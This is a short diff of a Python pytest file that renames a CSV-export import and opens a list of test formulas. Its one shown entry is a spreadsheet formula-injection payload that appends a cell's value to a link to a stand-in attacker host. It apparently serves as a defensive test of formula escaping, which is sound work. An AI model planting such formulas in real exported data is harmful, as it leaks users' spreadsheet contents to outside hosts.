@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from director.runs.taking_out import as_csv
+from director.runs.exported_data import as_csv
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"open")',
